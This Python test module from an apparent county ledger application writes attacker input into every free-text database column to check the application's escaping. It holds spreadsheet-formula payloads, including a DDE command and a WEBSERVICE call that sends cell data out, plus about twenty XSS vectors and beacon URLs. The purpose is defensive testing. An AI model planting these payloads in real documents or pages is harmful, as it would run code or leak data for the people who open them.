"""What an attacker types wherever something can be typed, and how it gets past every check into a database."""

from __future__ import annotations

import datetime as dt
import json
import re
from base64 import b64decode
from dataclasses import replace
from hashlib import sha256
from itertools import cycle, product
from typing import TYPE_CHECKING, Final

from pysqlite3 import dbapi2 as sqlite
from sqlalchemy import String, select
from sqlalchemy.orm import Session

from data.actions import meetings, report, submissions
from data.actions.fresh import Basis
from data.ledger.books import BOOKS
from data.ledger.columns import Kind
from data.model import (
    Account,
    Attachment,
    Base,
    Household,
    HouseholdHelp,
    LayerVersion,
    LedgerChoice,
    LedgerImport,
    LedgerText,
    Notification,
    Objective,
    Person,
    PlaybookEdition,
    Visit,
)
from data.rules.permissions import Actor, Role
from data.store import meetings as meeting_store
from data.store import snapshot as snapshots
from data.store.engine import engine_for
from data.store.frames import row_of
from tests.besieged import COUNTY

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from pysqlite3.dbapi2 import Connection
    from sqlalchemy import Engine, Table

ELSEWHERE: Final = "z02"
"""A zone that is not the clerk's."""
DAY: Final = dt.date(2018, 9, 20)
PICTURE: Final = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
"""A PNG of one point."""

FORMULAS: Final = (
    '=HYPERLINK("http://example.org","点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://example.org/"&A1)',
)
RUN: Final = "window.__pwned=1"
SCRIPTS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus={RUN} x='",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    "![x](http://127.0.0.2:1/pixel.png)",
    "<img src=http://127.0.0.2:1/pixel.png>",
    "<style>@import 'http://127.0.0.2:1/x.css';*{background:url(http://127.0.0.2:1/y.png)}</style>",
    "<link rel=stylesheet href=http://127.0.0.2:1/x.css>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "<base href=http://127.0.0.2:1/>",
    "\u202egnp.exe\u202c<b>粗</b>",
    f"<!--><math><mi xlink:href=data:x,<script>{RUN}</script>>-->",
)
CODED: Final = frozenset(
    {
        "accuracy",
        "action",
        "as_of",
        "at",
        "batch",
        "belongs_to",
        "cause",
        "closes_item",
        "colour",
        "content",
        "corrects",
        "county",
        "county_code",
        "date",
        "deadline",
        "deed",
        "direction",
        "error",
        "evidence",
        "fact.unit",
        "fact_ids",
        "field",
        "file_sha256",
        "fund",
        "geometry",
        "hash",
        "id_number",
        "inspection_id",
        "kind",
        "layer",
        "ledger",
        "level",
        "line",
        "made_at",
        "meant",
        "measure",
        "media_type",
        "monitored",
        "op",
        "origin",
        "origin_id",
        "origin_kind",
        "outline",
        "parent_code",
        "password_hash",
        "period",
        "person_id",
        "place_code",
        "playbook",
        "previous_hash",
        "recipient",
        "recovery_hashes",
        "replaced_at",
        "role",
        "rule",
        "same_as",
        "scheme",
        "seed",
        "sha256",
        "state",
        "step",
        "subject",
        "subject_id",
        "subject_kind",
        "system",
        "table_name",
        "token_hash",
        "totp_secret",
        "value",
        "village_code",
        "year",
        "zone_key",
    }
)
"""Columns, of one table or of all, that the program fills in itself: codes, sums, what is read again.

Any other text is somebody's words; a new column is attacked unless it stands here.
"""
SPOKEN: Final = re.compile(r'^((?:name|title|text|note|source|consequence|zone) *= *)"[^"]*"$', re.MULTILINE)
"""What of a playbook is shown as it is written."""


def write(database: Connection, county: str, texts: Sequence[str]) -> int:
    """Write each of the texts, in turn, into every free text of a county and of what belongs to the machine.

    Returns:
        How many values were written.
    """
    choice = " ".join(f"WHEN {index} THEN ?" for index in range(len(texts)))
    changed = 0
    for table, column in free():
        where = "county_code = ?" if "county_code" in table.columns else "? <> ''"
        statement = (
            f'UPDATE "{table.name}" SET "{column}" = CASE (rowid + ?) % {len(texts)} {choice} END '  # noqa: S608
            f'WHERE {where} AND "{column}" IS NOT NULL'
        )
        changed += database.execute(statement, (len(column), *texts, county)).rowcount
    return changed


def free() -> Iterator[tuple[Table, str]]:
    """Every column in which people write what they like."""
    for table in Base.metadata.sorted_tables:
        told = {one.name for key in table.foreign_key_constraints for one in key.columns}
        for column in table.columns:
            named = {column.name, f"{table.name}.{column.name}"}
            coded = column.primary_key or column.name in told or named & CODED
            if isinstance(column.type, String) and not coded:
                yield table, column.name


def county(home: Path, texts: Sequence[str]) -> None:
    """Make a county of which everything that somebody can have written is an attack, in every table there is.

    Its meetings are opened once it is one, so that their editions are one too.

    Args:
        home: The folder of a database.
        texts: What is written, in turn.
    """
    engine = engine_for(f"sqlite:///{home / 'zhantu.db'}")
    with Session(engine) as session, session.begin():
        session.add_all(_rows(session, texts))
    with sqlite.connect(home / "zhantu.db") as database:
        (book,) = database.execute("SELECT playbook FROM county WHERE county_code = ?", (COUNTY,)).fetchone()
        told = (written_playbook(book, texts), COUNTY)
        database.execute("UPDATE county SET playbook = ? WHERE county_code = ?", told)
        assert write(database, COUNTY, texts) > 10_000
    database.close()
    _hand_in(engine, texts)
    _meet(engine, texts)
    engine.dispose()
    with sqlite.connect(home / "zhantu.db") as database:
        write(database, COUNTY, texts)  # what was handed in, and the meeting
    database.close()


def _rows(session: Session, texts: Sequence[str]) -> Iterator[Base]:
    """What nobody has entered yet: a row of every table that is empty after a first start."""
    at = {"county_code": COUNTY}
    mine = {**at, "source": "x"}
    works = session.scalars(
        select(Objective.id).where(Objective.county_code == COUNTY).order_by(Objective.id)
    ).all()
    homes = session.scalars(select(Household.id).where(Household.county_code == COUNTY).limit(20)).all()
    person = session.scalars(select(Person.id).where(Person.county_code == COUNTY).limit(1)).one()
    for number, kind in enumerate(("township", "village", "relocation_site", "industry_base"), 1):
        day = {"valid_from": DAY, "recorded_on": DAY}
        yield LayerVersion(number=number, layer=kind, title="x", actor="x", reason="x", **day, **mine)
    for number, ledger in enumerate(("projects", "industry", "exits"), 1):
        counted = {"added": 1, "changed": 0, "unchanged": 0, "recorded_on": DAY, "file_sha256": "0" * 64}
        yield LedgerImport(id=f"import-{number:04}", ledger=ledger, file_name="x", actor="x", **counted, **at)
    for number, text in enumerate(texts):
        yield LedgerChoice(ledger="projects", kind="header", said=text, meant="", **at)
        kept = {
            "objective_id": works[number * 7],
            "name": "x.png",
            "media_type": "image/png",
            "recorded_on": DAY,
        }
        yield Attachment(
            id=f"paper-{number}", content=PICTURE, sha256=sha256(PICTURE).hexdigest(), **kept, **mine
        )
    for field, work in product(BOOKS["projects"].own_fields(), works):
        kept = {"ledger": "projects", "subject_id": work, "field": field.code, "recorded_on": DAY}
        if field.kind is Kind.TEXT and work.startswith("demo-project"):
            yield LedgerText(text="x", **kept, **mine)
    yield PlaybookEdition(
        number=1, replaced_at="2018-09-19T08:00:00+00:00", actor="x", reason="x", playbook="", **at
    )
    for number, name in enumerate(texts):
        who = {"role": Role.CLERK, "county_code": COUNTY, "zone_key": "z01", "unit": "x"}
        who |= {"display_name": "x", "password_hash": "", "created_at": number}
        yield Account(name=name, **who)
    for number, home in enumerate(homes):
        day = {"on_date": DAY, "recorded_on": DAY}
        yield Visit(household_id=home, person="x", text="x", **day, **mine)
        yield HouseholdHelp(household_id=home, person_id=person, valid_from=DAY, phone="x", **mine)
        yield Notification(
            county=COUNTY,
            event=f"x{number}",
            recipient="",
            channel="x",
            kind="overdue",
            text="x",
            on_date=DAY,
            state="failed",
        )


def _hand_in(engine: Engine, texts: Sequence[str]) -> None:
    """Progress that waits for approval, and some that was returned."""
    snapshot = snapshots.load(COUNTY, DAY, engine=engine)
    shown = snapshot.objectives
    fit = (shown["kind"] == "project") & (shown["direction"] == "up") & shown["done_on"].isna()
    some = shown.index[fit & (shown["zone"] == ELSEWHERE)][:4]
    for turn, key in enumerate(some):
        basis = Basis(snapshot, report.standing(snapshot, row_of(shown, key)), Actor("甲", Role.SECRETARY))
        filled = report.Progress(key, float(shown.loc[key, "quantity"]), DAY, reason=texts[turn].strip())
        made = submissions.submit(basis, "report", filled, engine)
        if turn % 2:
            other = replace(basis, actor=Actor("乙", Role.SECRETARY))
            submissions.decide(other, made, approve=False, reason=texts[turn].strip(), engine=engine)


def _meet(engine: Engine, texts: Sequence[str]) -> None:
    """A meeting that is held, so that its edition holds what was written, and one that is only planned."""
    actor = Actor("甲", Role.SECRETARY)
    for turn, day in enumerate((DAY, DAY, DAY + dt.timedelta(7))):
        snapshot = snapshots.load(COUNTY, DAY, engine=engine)
        wanted = meetings.Plan(kind="special", title=texts[turn], held_on=day, place="x", chair="x")
        key = meetings.plan(Basis(snapshot, "", actor), wanted, engine)
        if day == DAY:
            snapshot = snapshots.load(COUNTY, DAY, engine=engine)
            standing = meeting_store.load(snapshot, engine)[key].standing
            meetings.open_meeting(Basis(snapshot, standing, actor), key, engine)


def written_playbook(text: str, texts: Sequence[str]) -> str:
    """A playbook whose every name, title and note is one of the texts, in turn."""
    turn = cycle(texts)
    return SPOKEN.sub(lambda found: found[1] + json.dumps(next(turn), ensure_ascii=False), text)
